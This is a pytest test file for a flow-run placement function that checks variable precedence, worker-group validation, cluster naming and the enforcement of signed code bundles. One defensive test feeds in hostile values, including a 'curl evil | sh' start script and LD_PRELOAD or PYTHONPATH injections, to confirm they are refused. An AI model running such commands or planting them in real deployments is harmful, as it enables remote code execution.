"""Where runs go: a pure function, tested with tables."""

from dataclasses import astuple
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest

from flowgroup import signing
from flowgroup.daemon.placement import Policy, place
from flowgroup.daemon.send import results_of
from flowgroup.errors import Refused
from flowgroup.model.bundle import BundleRef, Statement
from flowgroup.model.ids import DeploymentId, FlowId, RunId
from flowgroup.model.runs import Deployment, DueRun, Placement
from flowgroup.model.spec import ClusterSpec
from flowgroup.model.variables import base_job_template

POLICY = Policy("pool")


def due(**variables: Any) -> DueRun:
    return DueRun(RunId("run"), "run", FlowId("f"), DeploymentId("d"), datetime.now(UTC), variables)


def deployment(**fields: Any) -> Deployment:
    whole: dict[str, Any] = {
        "id": DeploymentId("d"),
        "name": "dev",
        "flow_id": FlowId("f"),
        "flow_name": "etl",
        "version": "v1",
        "entrypoint": "a.py:etl",
        "pull_steps": (),
        "job_variables": {},
    }
    return Deployment(**{**whole, **fields})


def template(**defaults: Any) -> dict[str, Any]:
    ours = base_job_template()
    for name, value in defaults.items():
        ours["variables"]["properties"][name]["default"] = value
    return ours


def bundle(keys: Path | None = None, *, python: str = "3.11", name: str = "etl/dev", **fields: Any) -> dict[str, Any]:
    text = Statement(
        sha256="0" * 64,
        size=10,
        deployment=name,
        version="v1",
        python=python,
        cloudpickle="3",
        prefect="3.8.8",
        created=datetime(2026, 1, 1, tzinfo=UTC),
        **fields,
    ).canonical()
    signed = signing.sign(text, keys) if keys else (None, None)
    ref = BundleRef(address="s3://b/x/flows/etl/abc.zip", statement=text, signature=signed[0], key_id=signed[1])
    return ref.model_dump(mode="json")


def test_the_run_says_more_than_the_deployment_and_that_more_than_the_pool() -> None:
    plan = place(
        due(workers=3, env={"C": "run"}),
        deployment(job_variables={"workers": 2, "worker_threads": 4, "env": {"B": "dep", "C": "dep"}}),
        template(workers=1, worker_processes=5, env={"A": "pool", "C": "pool"}),
        POLICY,
    )
    assert (plan.spec.workers, plan.spec.worker_threads, plan.spec.worker_processes) == (3, 4, 5)
    assert plan.env == {"A": "pool", "B": "dep", "C": "run"}


def test_what_processes_start_with_belongs_to_the_cluster_and_the_rest_to_the_run() -> None:
    env = {"DASK_X": "1", "OMP_NUM_THREADS": "2", "MINE": "3"}
    one = place(due(), deployment(job_variables={"env": env}), template(), POLICY)
    two = place(due(env={"MINE": "4"}), deployment(job_variables={"env": env}), template(), POLICY)
    assert one.spec == two.spec
    assert one.spec.env == {"DASK_X": "1", "OMP_NUM_THREADS": "2"}
    assert two.env["MINE"] == "4"


def test_a_null_takes_a_variable_away() -> None:
    plan = place(due(env={"A": None}), deployment(job_variables={"env": {"A": "1"}}), template(), POLICY)
    assert plan.env == {}


def test_dotted_names_are_values_inside_env() -> None:
    plan = place(due(**{"env.A": "run"}), deployment(job_variables={"env.A": "dep", "env.B": "x"}), template(), POLICY)
    assert plan.env == {"A": "run", "B": "x"}


def test_the_agents_environment_is_never_read(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PREFECT_API_KEY", "secret")
    plan = place(due(env={"A": "{{ $PREFECT_API_KEY }}"}), deployment(), template(env={"B": "{{ $HOME }}"}), POLICY)
    assert plan.env == {"A": "{{ $PREFECT_API_KEY }}", "B": "{{ $HOME }}"}


@pytest.mark.parametrize(
    ("variables", "said"),
    [
        ({"workers": -1}, "workers"),
        ({"n_workers": 1}, "n_workers"),
        ({"workers": "many"}, "workers"),
        ({"mode": "alone"}, "mode"),
        ({"env": {"A B": "x"}}, "not a name"),
        ({"worker_memory": "lots"}, "worker_memory"),
    ],
)
def test_wrong_variables_are_refused_by_name(variables: dict[str, Any], said: str) -> None:
    with pytest.raises(Refused, match=said):
        place(due(**variables), deployment(), template(), POLICY)


def test_a_run_without_a_deployment_is_refused() -> None:
    with pytest.raises(Refused, match="no deployment"):
        place(due(), None, template(), POLICY)


def test_a_deployment_without_code_is_refused() -> None:
    with pytest.raises(Refused, match="neither a bundle nor an entrypoint"):
        place(due(), deployment(entrypoint=None), template(), POLICY)


@pytest.mark.parametrize(("mode", "own", "idle_s"), [("shared", None, 300), ("shared", 0, 0), ("per-run", 60, 0)])
def test_the_idle_time_is_the_deployments_or_the_daemons(mode: str, own: float | None, idle_s: float) -> None:
    plan = place(due(mode=mode, idle_timeout_s=own), deployment(), template(), POLICY)
    assert plan.idle_timeout_s == idle_s


def test_a_flow_name_of_300_odd_characters_is_a_cluster_name() -> None:
    plan = place(due(), deployment(flow_name="Ünï/\\çødé ✓ " * 30), template(), POLICY)
    assert len(plan.spec.name) <= 45


def placed(ref: dict[str, Any], policy: Policy, **variables: Any) -> Placement:
    return place(due(), deployment(job_variables={"bundle": ref, **variables}), template(), policy)


def test_results_lie_beside_the_bundles() -> None:
    assert results_of(placed(bundle(), POLICY)) == "s3://b/x/results/etl"
    assert results_of(place(due(), deployment(), template(), POLICY)) is None


def test_without_keys_an_unsigned_bundle_runs_but_must_be_about_this_deployment() -> None:
    assert placed(bundle(), POLICY).bundle is not None
    with pytest.raises(Refused, match="'etl/prod', not for 'etl/dev'"):
        placed(bundle(name="etl/prod"), POLICY)


def test_a_bundle_of_another_python_is_refused_where_the_backends_is_known() -> None:
    assert placed(bundle(python="3.12"), POLICY)
    with pytest.raises(Refused, match=r"Python 3\.12.*Python 3\.11"):
        placed(bundle(python="3.12"), Policy("pool", python="3.11"))


@pytest.fixture
def keys(tmp_path: Path) -> signing.KeyPair:
    return signing.new_pair(tmp_path)


@pytest.fixture
def strict(keys: signing.KeyPair) -> Policy:
    return Policy("pool", public_keys=signing.load_public(keys.public))


def test_with_keys_only_what_is_signed_runs(keys: signing.KeyPair, strict: Policy) -> None:
    assert placed(bundle(keys.private), strict)
    with pytest.raises(Refused, match="not signed"):
        placed(bundle(), strict)
    with pytest.raises(Refused, match="allow_unsigned"):
        place(due(), deployment(), template(), strict)


def test_a_pool_may_allow_unsigned_code_and_a_deployment_may_not(strict: Policy) -> None:
    allowing = template()
    allowing["job_configuration"]["allow_unsigned"] = True
    assert place(due(), deployment(), allowing, strict)
    with pytest.raises(Refused, match="allow_unsigned"):
        place(due(), deployment(job_variables={"allow_unsigned": True}), template(), strict)


@pytest.mark.parametrize(
    ("wrong", "what"),
    [
        ({"image": "evil"}, "image"),
        ({"start_script": "curl evil | sh"}, "start script"),
        ({"env": {"PYTHONPATH": "/evil"}}, "environment"),
        ({"env": {"LD_PRELOAD": "/evil.so"}}, "environment"),
        ({"env_from": [{"configMapRef": {"name": "evil"}}]}, "environment by reference, volumes or service account"),
        ({"service_account": "mighty"}, "environment by reference, volumes or service account"),
    ],
)
def test_what_was_signed_cannot_be_changed_at_any_level(
    keys: signing.KeyPair, strict: Policy, wrong: dict[str, Any], what: str
) -> None:
    ref = bundle(keys.private)
    assert placed(ref, strict, env={"MINE": "is free"})
    with pytest.raises(Refused, match=f"the {what} of 'etl/dev'"):
        placed(ref, strict, **wrong)
    with pytest.raises(Refused, match=f"the {what} of 'etl/dev'"):
        place(due(**wrong), deployment(job_variables={"bundle": ref}), template(), strict)
    with pytest.raises(Refused, match=f"the {what} of 'etl/dev'"):
        place(due(), deployment(job_variables={"bundle": ref}), template(**wrong), strict)


def test_what_was_signed_may_stand_there(keys: signing.KeyPair, strict: Policy) -> None:
    ref = bundle(keys.private, image="repo/a:1", start_script="pip list", environment={"OMP_NUM_THREADS": "1"})
    plan = placed(ref, strict, image="repo/a:1", start_script="pip list", env={"OMP_NUM_THREADS": "1", "X": "2"})
    assert plan.spec.image == "repo/a:1"


def test_groups_of_workers_make_another_cluster_and_are_checked_by_name() -> None:
    groups = [{"name": "gpu", "count": 2, "size": "gpu-large", "dask_resources": {"GPU": 1}}]
    one = place(due(), deployment(job_variables={"worker_groups": groups}), template(), POLICY)
    assert one.spec.has_workers
    assert one.spec.workers == 0
    assert one.spec.name != place(due(), deployment(), template(), POLICY).spec.name
    assert not place(due(), deployment(), template(), POLICY).spec.has_workers


@pytest.mark.parametrize(
    ("groups", "said"),
    [
        ([{"name": "default"}], "`workers` and `worker_size`"),
        ([{"name": "a"}, {"name": "a"}], "two groups"),
        ([{"name": "Gpu"}], r"worker_groups\.0\.name"),
        ([{"name": "a", "gpus": 1}], r"worker_groups\.0\.gpus"),
        ([{"name": "a", "dask_resources": {"GPU": 0}}], "above 0"),
        ([{"name": "a", "count": -1}], r"worker_groups\.0\.count"),
        ([{"name": "a", "min": 1}], r"worker_groups\.0: .*min is 1, but max is not said"),
        ([{"name": "a", "min": 3, "max": 2}], r"worker_groups\.0: .*min is 3, which is more than max, 2"),
        ([{"name": "a", "count": 1, "min": 2, "max": 3}], r"worker_groups\.0: .*count is 1, which is less than min, 2"),
    ],
)
def test_wrong_groups_of_workers_are_refused_by_name(groups: list[dict[str, Any]], said: str) -> None:
    with pytest.raises(Refused, match=said):
        place(due(worker_groups=groups), deployment(), template(), POLICY)


@pytest.mark.parametrize(
    ("said", "numbers"),
    [
        ({"workers": 2}, ("default", 2, 2, 2)),
        ({"workers": 2, "worker_processes": 3}, ("default", 6, 6, 6)),
        ({"workers_max": 4}, ("default", 0, 0, 4)),
        ({"workers_min": 1, "workers_max": 4}, ("default", 1, 1, 4)),
        ({"workers": 3, "workers_min": 1, "workers_max": 4}, ("default", 3, 1, 4)),
        ({"workers": 0, "workers_min": 1, "workers_max": 4, "worker_processes": 2}, ("default", 2, 2, 8)),
        ({"worker_groups": [{"name": "gpu", "max": 4}]}, ("gpu", 0, 0, 4)),
        ({"worker_groups": [{"name": "gpu", "min": 1, "max": 4}]}, ("gpu", 1, 1, 4)),
        ({"worker_groups": [{"name": "gpu", "count": 1, "max": 4}]}, ("gpu", 1, 0, 4)),
    ],
)
def test_a_group_has_as_many_as_is_said_or_from_a_minimum_to_a_maximum(
    said: dict[str, Any], numbers: tuple[str, int, int, int]
) -> None:
    spec = place(due(**said), deployment(), template(), POLICY).spec
    assert astuple(spec.groups[-1]) == numbers
    assert spec.has_workers
    again = ClusterSpec.model_validate_json(spec.model_dump_json())
    assert again == spec
    assert again.name == spec.name


def test_numbers_that_nobody_says_do_not_change_a_clusters_name() -> None:
    groups = [{"name": "gpu", "count": 2}]
    spec = place(due(workers=2, worker_groups=groups), deployment(), template(), POLICY).spec
    told = spec.model_dump(mode="json")
    assert not {"workers_min", "workers_max"} & told.keys()
    assert not {"min", "max"} & told["worker_groups"][0].keys()


def test_a_flow_whose_name_begins_with_a_digit_has_a_cluster_whose_name_begins_with_a_letter() -> None:
    plan = place(due(), deployment(flow_name="3d " + "x" * 50), template(), POLICY)
    assert plan.spec.name.startswith("flow-3d-x")
    assert len(plan.spec.name) <= 45


def test_a_groups_own_image_is_refused_where_only_signed_code_runs(keys: signing.KeyPair, strict: Policy) -> None:
    said = {"bundle": bundle(keys.private), "worker_groups": [{"name": "gpu", "image": "other"}]}
    with pytest.raises(Refused, match=r"worker group 'gpu'.*did not sign"):
        place(due(), deployment(job_variables=said), template(), strict)
